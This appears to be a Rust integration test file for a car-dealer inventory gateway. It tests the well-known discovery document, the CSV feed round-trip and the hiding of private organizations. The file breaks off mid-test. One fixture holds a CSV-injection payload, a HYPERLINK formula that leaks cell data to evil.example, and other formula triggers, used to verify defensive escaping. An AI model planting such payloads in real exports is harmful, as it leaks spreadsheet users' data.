//! The discovery documents and the published feed over real HTTP
//! (docs/operations.md "The static publication", docs/inventory-feeds.md
//! "The published feed").
//!
//! - `/.well-known/dealer-agent.json` is DAP's static publication of ONE
//!   organization and validates against schemas/well-known.schema.json
//!   (ours, written from DAP's spec/v0.1/schemas/well-known.schema.json and
//!   shown here to be no looser): the configured organization or the only
//!   public one; otherwise a 404 problem saying why, never naming a
//!   private organization.
//! - `/feeds/{organization_id}/inventory.csv` is DAP Inventory CSV 0.1 from
//!   the live public inventory, and our own importer reads it back into
//!   the same vehicles.
//! - `/.well-known/dealer-agent-gateway.json` (the gateway's own document,
//!   schemas/dealer-agent-gateway.schema.json) agrees with the manifest, and
//!   `/llms.txt` names every served tool, the feeds and the rules.

use std::collections::{BTreeMap, BTreeSet};

use chrono::{SubsecRound as _, Utc};
use gateway::dap::DealerCharge;
use gateway::inventory::model::VehicleRecord;
use gateway::store::Store;
use serde_json::{Value, json};

use crate::common::{self, TestApp, fresh_database, spawn_on, test_source, test_vehicle};
use crate::security::FLEET;

const LAKESHORE: &str = "org.lakeshore-auto-group";
const MAPLECREST: &str = "org.maplecrest-motor-group";

/// DAP Inventory CSV 0.1's columns (spec/v0.1/dealer-agent-inventory-csv.md:
/// required, retail disclosure, optional vehicle columns), in that order.
const DAP_COLUMNS: [&str; 29] = [
    "organization_id",
    "rooftop_id",
    "vin",
    "stock_number",
    "year",
    "make",
    "model",
    "condition",
    "listing_url",
    "observed_at",
    "advertised_price_minor",
    "currency",
    "required_dealer_charges_json",
    "conditional_adjustments_json",
    "government_charges_status",
    "availability_status",
    "trim",
    "vehicle_type",
    "body_style",
    "exterior_color",
    "interior_color",
    "odometer_value",
    "odometer_unit",
    "stocked_at",
    "first_public_listing_at",
    "history_reports_json",
    "certification_type",
    "image_urls_json",
    "features_json",
];

/// A validator of `reference` over the shipped schema files plus the two
/// discovery schemas (cross-file references resolved by the catalog's
/// bundler, which also refuses a definition name used twice).
fn validator(reference: &str) -> jsonschema::Validator {
    let mut documents: BTreeMap<String, Value> = BTreeMap::new();
    for (file, text) in gateway::catalog::SCHEMA_FILES {
        documents.insert((*file).to_owned(), serde_json::from_str(text).unwrap());
    }
    for (file, text) in [
        (
            "well-known.schema.json",
            include_str!("../../../schemas/well-known.schema.json"),
        ),
        (
            "dealer-agent-gateway.schema.json",
            include_str!("../../../schemas/dealer-agent-gateway.schema.json"),
        ),
    ] {
        documents.insert(file.to_owned(), serde_json::from_str(text).unwrap());
    }
    let schema = gateway::catalog::bundle_reference(&documents, reference).expect("bundles");
    jsonschema::draft202012::options()
        .should_validate_formats(true)
        .build(&schema)
        .expect("schema compiles")
}

fn assert_valid(reference: &str, doc: &Value) {
    let v = validator(reference);
    let errors: Vec<String> = v
        .iter_errors(doc)
        .map(|e| format!("{e} at {}", e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "{errors:?}\n{doc}");
}

const STATIC: &str = "well-known.schema.json#/$defs/staticPublication";
const GATEWAY_DOC: &str = "dealer-agent-gateway.schema.json#/$defs/gatewayDiscovery";

struct Got {
    status: u16,
    headers: reqwest::header::HeaderMap,
    body: String,
}

async fn fetch(app: &TestApp, path: &str, if_none_match: Option<&str>) -> Got {
    let mut req = app.http.get(format!("{}{path}", app.base()));
    if let Some(tag) = if_none_match {
        req = req.header("if-none-match", tag);
    }
    let resp = req.send().await.expect("request sent");
    let status = resp.status().as_u16();
    let headers = resp.headers().clone();
    Got {
        status,
        headers,
        body: resp.text().await.expect("body"),
    }
}

async fn get_ok(app: &TestApp, path: &str) -> Got {
    let got = fetch(app, path, None).await;
    assert_eq!(got.status, 200, "{path}: {}", got.body);
    got
}

fn header<'a>(headers: &'a reqwest::header::HeaderMap, name: &str) -> &'a str {
    headers
        .get(name)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
}

/// The answer is cacheable publicly, has an ETag, and that ETag answers
/// 304 with no body.
async fn assert_revalidates(app: &TestApp, path: &str, got: &Got) {
    assert!(
        header(&got.headers, "cache-control").starts_with("public, max-age="),
        "{path}"
    );
    let etag = header(&got.headers, "etag");
    assert!(
        etag.starts_with('"') && etag.ends_with('"'),
        "{path}: {etag}"
    );
    let again = fetch(app, path, Some(etag)).await;
    assert_eq!(again.status, 304, "{path}");
    assert!(again.body.is_empty());
    assert_eq!(header(&again.headers, "etag"), etag);
    let other = fetch(app, path, Some("\"something-else\"")).await;
    assert_eq!(other.status, 200, "{path}");
}

async fn served_tools(app: &TestApp) -> BTreeSet<String> {
    let list = app.modern("tools/list", json!({})).await;
    list.result()["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["name"].as_str().unwrap().to_owned())
        .collect()
}

/// A 404 problem document (RFC 9457) naming nothing in `hidden`.
fn assert_problem(got: &Got, slug: &str, hidden: &[&str]) -> Value {
    assert_eq!(got.status, 404, "{}", got.body);
    assert_eq!(
        header(&got.headers, "content-type"),
        "application/problem+json"
    );
    let p: Value = serde_json::from_str(&got.body).expect("JSON problem");
    assert_eq!(p["status"], json!(404));
    assert_eq!(
        p["type"],
        json!(format!("urn:dealer-agent-gateway:problem:{slug}")),
        "{p}"
    );
    assert!(p["title"].is_string() && p["detail"].is_string(), "{p}");
    for h in hidden {
        assert!(!got.body.contains(h), "{h} named: {}", got.body);
    }
    p
}

/// DAP's well-known schema requires exactly these members and closes
/// every object; ours must too (it may only be stricter).
#[test]
fn our_well_known_schema_is_no_looser_than_daps() {
    let doc: Value =
        serde_json::from_str(include_str!("../../../schemas/well-known.schema.json")).unwrap();
    let defs = &doc["$defs"];
    let root = &defs["staticPublication"];
    let required: BTreeSet<&str> = root["required"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r.as_str().unwrap())
        .collect();
    assert_eq!(
        required,
        BTreeSet::from([
            "dealer_agent_protocol",
            "organization_id",
            "rooftops",
            "gateway",
            "published_feed",
            "disclosure_defaults",
            "handoff"
        ])
    );
    let members: BTreeSet<&str> = root["properties"]
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    let mut allowed = required.clone();
    allowed.insert("upgrade_path");
    assert_eq!(members, allowed, "no member DAP does not define");
    for def in [
        "staticPublication",
        "staticPublicationRooftop",
        "publishedFeed",
        "disclosureDefaults",
        "defaultDealerCharge",
        "staticHandoff",
    ] {
        assert_eq!(defs[def]["additionalProperties"], json!(false), "{def}");
    }
    let feed = &defs["publishedFeed"]["properties"];
    assert_eq!(feed["format"]["const"], "dealer-agent-inventory-csv/0.1");
    assert_eq!(feed["authority"]["const"], "asserted");
    assert_eq!(feed["freshness_sla_seconds"]["minimum"], 60);
    assert_eq!(feed["freshness_sla_seconds"]["maximum"], 86_400);
    assert_eq!(root["properties"]["dealer_agent_protocol"]["const"], "0.1");
    let charge = &defs["defaultDealerCharge"];
    let charge_members: BTreeSet<&str> = charge["properties"]
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    assert_eq!(
        charge_members,
        BTreeSet::from([
            "label",
            "amount_minor",
            "currency",
            "included_in_advertised_price"
        ]),
        "DAP's default charge has no payee"
    );
    assert_eq!(
        defs["disclosureDefaults"]["properties"]["government_charges"]["enum"],
        json!(["unknown", "estimated", "calculated", "not_applicable"])
    );
    // A document lacking a required member, or with one DAP does not
    // define, is refused.
    let v = validator(STATIC);
    let good = json!({
        "dealer_agent_protocol": "0.1",
        "organization_id": "org.a",
        "rooftops": [{"rooftop_id": "roof.a", "name": "A"}],
        "gateway": null,
        "published_feed": {"format": "dealer-agent-inventory-csv/0.1", "url": "https://a.example/f.csv", "freshness_sla_seconds": 3600, "authority": "asserted"},
        "disclosure_defaults": {"required_dealer_charges": [], "government_charges": "unknown"},
        "handoff": {"adf_endpoint": null, "policy_url": null}
    });
    assert!(v.is_valid(&good));
    for member in required {
        let mut bad = good.clone();
        bad.as_object_mut().unwrap().remove(member);
        assert!(!v.is_valid(&bad), "{member} is required");
    }
    let mut extra = good.clone();
    extra["organization_ids"] = json!(["org.a"]);
    assert!(!v.is_valid(&extra));
    let mut fast = good;
    fast["published_feed"]["freshness_sla_seconds"] = json!(59);
    assert!(!v.is_valid(&fast));
}

/// The demo's Maple Crest, as published. Its rooftops charge the same
/// amount under different names (Toronto an administration fee, Burnaby a
/// documentation fee), so neither is an organization default.
#[tokio::test]
async fn the_static_publication_of_the_configured_organization_is_daps_document() {
    let app = common::spawn_with(|s| {
        s.publication_organization = Some(MAPLECREST.to_owned());
    })
    .await;
    let got = get_ok(&app, "/.well-known/dealer-agent.json").await;
    assert_eq!(header(&got.headers, "content-type"), "application/json");
    assert_revalidates(&app, "/.well-known/dealer-agent.json", &got).await;
    let doc: Value = serde_json::from_str(&got.body).expect("JSON");
    assert_valid(STATIC, &doc);

    assert_eq!(doc["organization_id"], json!(MAPLECREST));
    assert_eq!(doc["gateway"], json!(app.url));
    let dealer = app
        .call_tool(
            "dealeragent.dealer.get",
            json!({"organization_id": MAPLECREST}),
        )
        .await["structuredContent"]
        .clone();
    let expected: Vec<Value> = dealer["organization"]["rooftops"]
        .as_array()
        .or_else(|| dealer["rooftops"].as_array())
        .expect("rooftops")
        .iter()
        .map(|r| json!({"rooftop_id": r["rooftop_id"], "name": r["name"]}))
        .collect();
    assert_eq!(doc["rooftops"], json!(expected), "{dealer}");
    assert_eq!(
        doc["published_feed"],
        json!({
            "format": "dealer-agent-inventory-csv/0.1",
            "url": format!("{}/feeds/{MAPLECREST}/inventory.csv", app.base()),
            // Both rooftops: inventory SLA 900 s.
            "freshness_sla_seconds": 900,
            "authority": "asserted",
        })
    );
    assert_eq!(
        doc["disclosure_defaults"],
        json!({"required_dealer_charges": [], "government_charges": "unknown"})
    );
    assert_eq!(
        doc["handoff"],
        json!({"adf_endpoint": null, "policy_url": null})
    );
    // The feed it names is served.
    let feed_path = doc["published_feed"]["url"]
        .as_str()
        .unwrap()
        .strip_prefix(&app.base())
        .unwrap()
        .to_owned();
    let feed = get_ok(&app, &feed_path).await;
    assert_eq!(
        header(&feed.headers, "content-type"),
        "text/csv; charset=utf-8"
    );
    assert!(feed.body.lines().count() > 1, "vehicles: {}", feed.body);
}

/// Lake Shore's public rooftops charge different documentation fees: no
/// organization default is invented, and every row states its own
/// rooftop's fee instead. Its partner-only rooftop is in neither.
#[tokio::test]
async fn rooftops_that_disagree_state_their_charges_per_row_not_as_a_default() {
    let app = common::spawn_with(|s| {
        s.publication_organization = Some(LAKESHORE.to_owned());
    })
    .await;
    let got = get_ok(&app, "/.well-known/dealer-agent.json").await;
    let doc: Value = serde_json::from_str(&got.body).unwrap();
    assert_valid(STATIC, &doc);
    assert_eq!(
        doc["disclosure_defaults"]["required_dealer_charges"],
        json!([])
    );
    assert_eq!(
        doc["disclosure_defaults"]["government_charges"],
        json!("unknown")
    );
    assert!(!got.body.contains(FLEET), "{}", got.body);
    let ids: BTreeSet<&str> = doc["rooftops"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["rooftop_id"].as_str().unwrap())
        .collect();
    assert_eq!(
        ids,
        BTreeSet::from([
            "roof.lakeshore-chicago",
            "roof.lakeshore-grand-rapids",
            "roof.lakeshore-lakewood",
            "roof.lakeshore-sacramento"
        ])
    );
    // The largest inventory SLA of the four (Lakewood's 1800 s).
    assert_eq!(doc["published_feed"]["freshness_sla_seconds"], json!(1800));

    let feed = get_ok(&app, &format!("/feeds/{LAKESHORE}/inventory.csv")).await;
    let mut reader = csv::Reader::from_reader(feed.body.as_bytes());
    let mut seen: BTreeMap<String, usize> = BTreeMap::new();
    for row in reader.deserialize::<BTreeMap<String, String>>() {
        let row = row.expect("CSV row");
        let rooftop = row["rooftop_id"].clone();
        assert_ne!(rooftop, FLEET, "a partner-only rooftop is exported");
        let n = seen.entry(rooftop.clone()).or_default();
        *n += 1;
        if *n > 3 {
            continue;
        }
        // Each row states the charges the gateway discloses for the
        // vehicle (its rooftop's, overridden by the vehicle's own).
        let charges: Value =
            serde_json::from_str(&row["required_dealer_charges_json"]).expect("charges known");
        let vehicle_id = gateway::ingest::rules::vehicle_id(LAKESHORE, &rooftop, &row["vin"]);
        let disclosure = app
            .call_tool(
                "dealeragent.pricing.get_disclosure",
                json!({"organization_id": LAKESHORE, "rooftop_id": rooftop, "vehicle_id": vehicle_id}),
            )
            .await["structuredContent"]
            .clone();
        let disclosed: Vec<Value> = disclosure["required_dealer_charges"]
            .as_array()
            .unwrap_or_else(|| panic!("{disclosure}"))
            .iter()
            .map(|c| {
                let mut c = c.clone();
                c.as_object_mut().unwrap().remove("provenance");
                c
            })
            .collect();
        assert_eq!(charges, json!(disclosed), "{rooftop} {vehicle_id}");
        assert!(!disclosed.is_empty(), "every demo rooftop configures a fee");
    }
    assert_eq!(seen.len(), 4, "every public rooftop has rows: {seen:?}");
}

/// The demo has three public organizations: without a configured choice
/// there is no single organization to publish, and the 404 says so.
#[tokio::test]
async fn several_public_organizations_and_no_choice_answer_a_precise_404() {
    let app = common::spawn().await;
    let got = fetch(&app, "/.well-known/dealer-agent.json", None).await;
    let p = assert_problem(&got, "publication-organization-ambiguous", &[FLEET]);
    let detail = p["detail"].as_str().unwrap();
    assert!(detail.contains("--publication-organization"), "{detail}");
    assert!(
        detail.contains(LAKESHORE) && detail.contains(MAPLECREST),
        "{detail}"
    );
    // The feeds are still served, one per public organization.
    for org in [LAKESHORE, MAPLECREST] {
        get_ok(&app, &format!("/feeds/{org}/inventory.csv")).await;
    }
}

/// A store with one public organization (two rooftops sharing one fee,
/// the annex charging another too and holding no inventory) and one whose
/// only rooftop is partner-only (a private organization), with vehicles.
const TWO_DEALERS: &str = r#"
organizations:
  - organization_id: org.open-motors
    name: Open Motors
    rooftops:
      - rooftop_id: roof.open-main
        name: Open Motors Main
        address: {lines: [1 Main St], locality: Chicago, region: IL, postal_code: "60601", country: US}
        timezone: America/Chicago
        departments: [sales]
        gateway_settings:
          currency: USD
          odometer_unit: mi
          publication: {anonymous_reads: true}
          freshness_sla_seconds: {inventory: 30}
          pricing:
            required_dealer_charges:
              - charge_id: doc-fee
                name: Documentation fee
                amount: {amount_minor: 19900, currency: USD}
                payee: dealer
                included_in_advertised_price: false
                required: true
      - rooftop_id: roof.open-annex
        name: Open Motors Annex
        address: {lines: [3 Side St], locality: Chicago, region: IL, postal_code: "60603", country: US}
        timezone: America/Chicago
        departments: [sales]
        gateway_settings:
          currency: USD
          odometer_unit: mi
          publication: {anonymous_reads: true}
          freshness_sla_seconds: {inventory: 45}
          pricing:
            required_dealer_charges:
              - charge_id: prep
                name: Dealer preparation
                amount: {amount_minor: 29900, currency: USD}
                payee: dealer
                included_in_advertised_price: false
                required: true
              - charge_id: documentation
                name: Documentation fee
                amount: {amount_minor: 19900, currency: USD}
                payee: dealer
                included_in_advertised_price: false
                required: true
  - organization_id: org.hidden-partners
    name: Hidden Partners
    rooftops:
      - rooftop_id: roof.hidden-yard
        name: Hidden Partners Yard
        address: {lines: [2 Back Rd], locality: Chicago, region: IL, postal_code: "60602", country: US}
        timezone: America/Chicago
        departments: [sales]
        gateway_settings:
          currency: USD
          odometer_unit: mi
          publication: {anonymous_reads: false}
"#;
const OPEN: &str = "org.open-motors";
const OPEN_ROOFTOP: &str = "roof.open-main";
const HIDDEN: &str = "org.hidden-partners";
const HIDDEN_ROOFTOP: &str = "roof.hidden-yard";

struct TwoDealers {
    app: TestApp,
    store: std::sync::Arc<dyn Store>,
    open: Vec<VehicleRecord>,
}

async fn two_dealers(adjust: impl FnOnce(&mut gateway::config::ServeSettings)) -> TwoDealers {
    let now = Utc::now().trunc_subsecs(0);
    let (dir, url) = fresh_database().await;
    let store = gateway::store::open(&url).await.expect("store opens");
    let catalog = gateway::catalog::Catalog::load().expect("catalog");
    let orgs = gateway::dealers::parse(
        &catalog,
        "dealers.yaml",
        TWO_DEALERS.as_bytes(),
        "dealers-file:test",
        now,
    )
    .unwrap_or_else(|e| panic!("{e}"));
    store.upsert_organizations(&orgs).await.expect("dealers");
    let mut open: Vec<VehicleRecord> = (0..8)
        .map(|i| {
            let mut v = test_vehicle(OPEN, OPEN_ROOFTOP, "", "1PENX", i, now);
            // The id every importer gives this (rooftop, VIN).
            v.vehicle_id =
                gateway::ingest::rules::vehicle_id(OPEN, OPEN_ROOFTOP, v.vin.as_deref().unwrap());
            v
        })
        .collect();
    // Every listing status the CSV enum must express, a vehicle with its
    // own charge, adjustments, a report list and images.
    open[1].availability_status = "on_hold".into();
    open[2].availability_status = "pending_sale".into();
    open[3].availability_status = "sold".into();
    open[4].availability_status = "in_transit".into();
    open[4].condition = "new".into();
    open[4].odometer = None;
    open[4].trim = Some("Lariat, \"Sport\" Package".into());
    // A report status a JSON feed may give without reports: not a CSV cell.
    open[4].history_report_status = Some("available".into());
    open[5].required_dealer_charges = Some(vec![
        serde_json::from_value(json!({
            "charge_id": "doc-fee", "name": "Documentation fee (reduced)",
            "amount": {"amount_minor": 9900, "currency": "USD"}, "payee": "dealer",
            "included_in_advertised_price": true, "required": true
        }))
        .unwrap(),
    ]);
    open[5].government_charges_status = Some("not_applicable".into());
    open[5].media = vec![
        gateway::dap::MediaAsset::image("https://img.example/a.jpg", 0),
        gateway::dap::MediaAsset::image("https://img.example/b.jpg", 1),
    ];
    open[5].history_reports = vec![];
    open[5].history_report_status = Some("not_available".into());
    open[5].first_public_listing_at = Some(now - chrono::Duration::days(3));
    // Dealer text a spreadsheet would run as a formula (OWASP "CSV
    // Injection"), a legitimate trim that starts like one, text already
    // starting with the apostrophe mark before a trigger, and text that
    // merely starts with an apostrophe.
    open[0].make = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")".into();
    open[0].stock_number = Some("=1+1".into());
    open[1].model = "+SUM(1,2)".into();
    open[2].trim = Some("-Line".into());
    open[3].exterior_color = Some("@cmd".into());
    open[5].interior_color = Some("'=already marked".into());
    open[5].body_style = Some("'71 Classic".into());
    // Not expressible in DAP's CSV: left out of the feed.
    open[6].condition = "demo".into();
    open[7].listing_url = None;
    let hidden: Vec<VehicleRecord> = (0..2)
        .map(|i| {
            test_vehicle(
                HIDDEN,
                HIDDEN_ROOFTOP,
                &format!("veh.{i:03}.h"),
                "2HDNX",
                i,
                now,
            )
        })
        .collect();
    for (org, rooftop, vehicles) in [
        (OPEN, OPEN_ROOFTOP, &open),
        (HIDDEN, HIDDEN_ROOFTOP, &hidden),
    ] {
        store
            .create_snapshot(org, rooftop, &test_source("feed.csv", now), vehicles)
            .await
            .expect("snapshot");
    }
    let app = spawn_on(dir, url, |s| {
        s.no_demo = true;
        adjust(s);
    })
    .await;
    TwoDealers { app, store, open }
}

/// What our importer makes of `csv` for `organization_id`, by vehicle id.
async fn import(
    store: &dyn Store,
    organization_id: &str,
    csv: &str,
) -> BTreeMap<String, VehicleRecord> {
    let orgs = store.list_organizations().await.unwrap();
    let org = orgs
        .iter()
        .find(|o| o.organization_id == organization_id)
        .unwrap();
    let ctx = gateway::ingest::IngestContext::for_organization(org, None, Utc::now());
    let parsed = gateway::ingest::parse_feed(
        gateway::ingest::FeedFormat::DapCsv,
        "export.csv",
        csv.as_bytes(),
        &ctx,
    )
    .unwrap_or_else(|e| panic!("our importer refuses the feed: {e}\n{csv}"));
    parsed
        .rooftops
        .into_iter()
        .flat_map(|r| r.vehicles)
        .map(|v| (v.vehicle_id.clone(), v))
        .collect()
}

/// The published vehicle `original` as the feed carries it: DAP's CSV has
/// a smaller status enum, no column for this gateway's own evidence nor
/// for the feed's charge classes and reference price (docs/lint.md), and
/// each row carries the charges the gateway discloses (the rooftop's,
/// overridden by the vehicle's own by charge_id).
fn as_exported(original: &VehicleRecord, rooftop_charges: &[DealerCharge]) -> VehicleRecord {
    let mut v = original.clone();
    v.availability_status = match v.availability_status.as_str() {
        "pending_sale" | "on_hold" => "on_hold",
        "sold" => "unavailable",
        other => other,
    }
    .to_owned();
    let own = v.required_dealer_charges.clone().unwrap_or_default();
    if v.required_dealer_charges.is_some() || !rooftop_charges.is_empty() {
        let mut merged: Vec<DealerCharge> = rooftop_charges
            .iter()
            .filter(|c| !own.iter().any(|o| o.charge_id == c.charge_id))
            .cloned()
            .collect();
        merged.extend(own);
        v.required_dealer_charges = Some(merged);
    }
    if v.history_reports.is_empty() && v.history_report_status.as_deref() != Some("not_available") {
        v.history_report_status = None;
    }
    v.used_evidence = Default::default();
    v.claims = Default::default();
    if let Some(o) = v.odometer.as_mut() {
        o.status = None;
    }
    v
}

/// Compare everything but provenance (the import is a new file).
fn assert_same_vehicle(imported: &VehicleRecord, expected: &VehicleRecord) {
    let mut i = imported.clone();
    i.source = expected.source.clone();
    assert_eq!(&i, expected, "{}", expected.vehicle_id);
    assert_eq!(imported.source.observed_at, expected.source.observed_at);
    assert_eq!(imported.source.authority, "dealer_asserted");
}

/// The feed is DAP Inventory CSV 0.1 exactly (header, quoting, empty =
/// unknown), streamed, cacheable, and our own importer reads it back into
/// the same public vehicles: ids, VINs, prices, statuses (in DAP's CSV
/// enum) and every other fact the CSV carries. A vehicle DAP's CSV cannot
/// express is left out; the private organization is in nothing. Dealer
/// text a spreadsheet would run as a formula is written with the
/// apostrophe mark and read back as the dealer wrote it
/// (docs/inventory-feeds.md "Cells a spreadsheet would run").
#[tokio::test]
async fn the_feed_round_trips_through_our_importer() {
    let fx = two_dealers(|_| {}).await;
    let app = &fx.app;
    let path = format!("/feeds/{OPEN}/inventory.csv");
    let resp = app
        .http
        .get(format!("{}{path}", app.base()))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(resp.content_length(), None, "streamed, not built whole");
    let got = get_ok(app, &path).await;
    assert_eq!(
        header(&got.headers, "content-type"),
        "text/csv; charset=utf-8"
    );
    assert_revalidates(app, &path, &got).await;

    let mut reader = csv::Reader::from_reader(got.body.as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(headers, DAP_COLUMNS);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(
        rows.len(),
        6,
        "the demo and the unlisted vehicle are left out"
    );
    let col = |name: &str| DAP_COLUMNS.iter().position(|c| *c == name).unwrap();
    for row in &rows {
        assert_eq!(&row[col("organization_id")], OPEN);
        assert!(
            [
                "available",
                "unavailable",
                "in_transit",
                "reserved",
                "unknown"
            ]
            .contains(&&row[col("availability_status")]),
            "{row:?}"
        );
        // Unknown is empty, never a zero.
        assert_ne!(&row[col("government_charges_status")], "0");
    }
    let by_stock: BTreeMap<&str, &csv::StringRecord> = rows
        .iter()
        .map(|r| (r.get(col("stock_number")).unwrap(), r))
        .collect();
    let status = |i: usize| {
        by_stock[fx.open[i].stock_number.as_deref().unwrap()][col("availability_status")].to_owned()
    };
    assert_eq!(status(1), "reserved");
    assert_eq!(status(2), "reserved");
    assert_eq!(status(3), "unavailable");
    let new_car = by_stock[fx.open[4].stock_number.as_deref().unwrap()];
    assert_eq!(&new_car[col("odometer_value")], "", "unknown odometer");
    assert_eq!(&new_car[col("conditional_adjustments_json")], "");
    assert!(
        got.body.contains("\"Lariat, \"\"Sport\"\" Package\""),
        "RFC 4180 quoting"
    );
    // No free-text cell starts like a formula: each that would gets the
    // apostrophe mark, everything else is written as it is.
    let text_columns = [
        "stock_number",
        "make",
        "model",
        "trim",
        "body_style",
        "exterior_color",
        "interior_color",
    ];
    for row in &rows {
        for c in text_columns {
            assert!(
                !row[col(c)].starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{c} would run in a spreadsheet: {row:?}"
            );
        }
    }
    let by_vin: BTreeMap<&str, &csv::StringRecord> = rows
        .iter()
        .map(|r| (r.get(col("vin")).unwrap(), r))
        .collect();
    let row = |i: usize| by_vin[fx.open[i].vin.as_deref().unwrap()];
    assert_eq!(row(0)[col("make")], format!("'{}", fx.open[0].make));
    assert_eq!(&row(0)[col("stock_number")], "'=1+1");
    assert_eq!(
        &row(0)[col("model")],
        "F-150",
        "not at the start: untouched"
    );
    assert_eq!(&row(1)[col("model")], "'+SUM(1,2)");
    assert_eq!(&row(2)[col("trim")], "'-Line");
    assert_eq!(&row(3)[col("exterior_color")], "'@cmd");
    assert_eq!(&row(5)[col("interior_color")], "''=already marked");
    assert_eq!(&row(5)[col("body_style")], "'71 Classic");

    let imported = import(fx.store.as_ref(), OPEN, &got.body).await;
    let rooftop_charges: Vec<DealerCharge> = vec![
        serde_json::from_value(json!({
            "charge_id": "doc-fee", "name": "Documentation fee",
            "amount": {"amount_minor": 19900, "currency": "USD"}, "payee": "dealer",
            "included_in_advertised_price": false, "required": true
        }))
        .unwrap(),
    ];
    let expected: Vec<VehicleRecord> = fx.open[..6]
        .iter()
        .map(|v| as_exported(v, &rooftop_charges))
        .collect();
    assert_eq!(
        imported.keys().cloned().collect::<BTreeSet<_>>(),
        expected
            .iter()
            .map(|v| v.vehicle_id.clone())
            .collect::<BTreeSet<_>>(),
        "the same vehicle ids"
    );
    for e in &expected {
        let i = &imported[&e.vehicle_id];
        assert_eq!(i.vin, e.vin);
        assert_eq!(i.advertised_price, e.advertised_price);
        assert_eq!(i.availability_status, e.availability_status);
        assert_same_vehicle(i, e);
    }
    // The vehicle's own reduced fee overrides the rooftop's by charge_id.
    let own = &imported[&fx.open[5].vehicle_id];
    assert_eq!(
        own.required_dealer_charges.as_ref().unwrap()[0]
            .amount
            .amount_minor(),
        9900
    );
    assert!(!got.body.contains(HIDDEN) && !got.body.contains(HIDDEN_ROOFTOP));
}

/// The demo feeds, read back by our importer: every vehicle of the newest
/// snapshots of Lake Shore's public rooftops and nothing of its
/// partner-only one.
#[tokio::test]
async fn the_demo_feed_round_trips_and_leaves_the_partner_rooftop_out() {
    let app = common::spawn().await;
    let got = get_ok(&app, &format!("/feeds/{LAKESHORE}/inventory.csv")).await;
    let store = gateway::store::open(&app.database_url).await.unwrap();
    let imported = import(store.as_ref(), LAKESHORE, &got.body).await;
    let orgs = store.list_organizations().await.unwrap();
    let org = orgs
        .iter()
        .find(|o| o.organization_id == LAKESHORE)
        .unwrap();
    let mut expected = BTreeMap::new();
    for snapshot in store.latest_snapshots().await.unwrap() {
        if snapshot.organization_id != LAKESHORE || snapshot.rooftop_id == FLEET {
            continue;
        }
        let rooftop = org
            .rooftops
            .iter()
            .find(|r| r.rooftop_id == snapshot.rooftop_id)
            .unwrap();
        for v in store
            .snapshot_vehicles(&snapshot.snapshot_id)
            .await
            .unwrap()
        {
            if v.condition == "demo" {
                continue;
            }
            let e = as_exported(&v, &rooftop.settings.pricing.required_dealer_charges);
            expected.insert(e.vehicle_id.clone(), e);
        }
    }
    assert!(!expected.is_empty());
    assert_eq!(
        imported.keys().collect::<Vec<_>>(),
        expected.keys().collect::<Vec<_>>()
    );
    for (id, e) in &expected {
        assert_same_vehicle(&imported[id], e);
    }
    assert!(!got.body.contains(FLEET));
}

/// The only public organization is the publication; a configured private
/// organization is not published and answers exactly as an absent one,
/// naming neither; its feed is absent too, and a feed path never echoes
/// its id.
#[tokio::test]
async fn a_private_organization_is_never_published_whatever_is_configured() {
    // Unset: the private organization does not count.
    let fx = two_dealers(|_| {}).await;
    let got = get_ok(&fx.app, "/.well-known/dealer-agent.json").await;
    let doc: Value = serde_json::from_str(&got.body).unwrap();
    assert_valid(STATIC, &doc);
    assert_eq!(doc["organization_id"], json!(OPEN));
    // Both rooftops, the annex without any inventory yet.
    assert_eq!(
        doc["rooftops"],
        json!([{"rooftop_id": OPEN_ROOFTOP, "name": "Open Motors Main"},
               {"rooftop_id": "roof.open-annex", "name": "Open Motors Annex"}])
    );
    // Inventory SLAs 30 s and 45 s: declared as DAP's minimum, 60.
    assert_eq!(doc["published_feed"]["freshness_sla_seconds"], json!(60));
    assert_eq!(
        doc["disclosure_defaults"]["required_dealer_charges"],
        json!([{"label": "Documentation fee", "amount_minor": 19_900, "currency": "USD",
                "included_in_advertised_price": false}])
    );
    assert!(!got.body.contains(HIDDEN) && !got.body.contains(HIDDEN_ROOFTOP));
    let hidden_names = [HIDDEN, HIDDEN_ROOFTOP, "Hidden Partners"];
    let private_feed = fetch(&fx.app, &format!("/feeds/{HIDDEN}/inventory.csv"), None).await;
    let absent_feed = fetch(&fx.app, "/feeds/org.no-such-group/inventory.csv", None).await;
    assert_problem(&private_feed, "feed-not-found", &hidden_names);
    assert_problem(&absent_feed, "feed-not-found", &["org.no-such-group"]);
    assert_eq!(private_feed.body, absent_feed.body);
    let gateway_doc = get_ok(&fx.app, "/.well-known/dealer-agent-gateway.json").await;
    for h in hidden_names {
        assert!(!gateway_doc.body.contains(h), "{h}");
    }

    // Configured: the private one answers as an absent one.
    let mut bodies = Vec::new();
    for configured in [HIDDEN, "org.no-such-group"] {
        let app = spawn_on(fx.app.db_dir.clone(), fx.app.database_url.clone(), |s| {
            s.no_demo = true;
            s.publication_organization = Some(configured.to_owned());
        })
        .await;
        let got = fetch(&app, "/.well-known/dealer-agent.json", None).await;
        let p = assert_problem(
            &got,
            "publication-organization-not-published",
            &[HIDDEN, HIDDEN_ROOFTOP, "org.no-such-group", OPEN],
        );
        assert!(
            p["detail"]
                .as_str()
                .unwrap()
                .contains("--publication-organization")
        );
        let gw = get_ok(&app, "/.well-known/dealer-agent-gateway.json").await;
        let gw: Value = serde_json::from_str(&gw.body).unwrap();
        assert_valid(GATEWAY_DOC, &gw);
        assert_eq!(gw["static_publication"]["organization_id"], Value::Null);
        bodies.push(got.body);
    }
    assert_eq!(bodies[0], bodies[1], "private and absent look the same");
}

#[tokio::test]
async fn the_gateway_document_agrees_with_the_manifest() {
    let app = common::spawn().await;
    let got = get_ok(&app, "/.well-known/dealer-agent-gateway.json").await;
    assert_eq!(header(&got.headers, "content-type"), "application/json");
